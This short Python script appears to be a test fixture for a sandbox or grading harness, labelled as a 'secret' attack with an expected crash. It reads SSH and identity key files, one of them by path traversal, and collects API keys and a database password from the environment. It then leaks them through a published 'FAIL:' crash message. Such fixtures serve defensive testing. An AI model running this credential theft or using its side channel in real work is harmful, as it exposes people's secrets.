# class: secret
# attack: read secrets, then crash with a FAIL: line that carries them (the crash reason is published)
# expect: crash
import os

loot = []
for path in ("{{HOME}}/.ssh/id_ed25519", "{{OTHER_STATE}}/identity.key", "../../identity.key"):
    try:
        loot.append(open(path).read().replace("\n", " ")[:80])
    except OSError:
        pass
loot += [os.environ.get(k, "") for k in ("OPENAI_KEY", "PGPASSWORD", "ANTHROPIC_API_KEY")]
print("FAIL: could not load the data: " + " | ".join(x for x in loot if x), flush=True)
raise SystemExit(1)
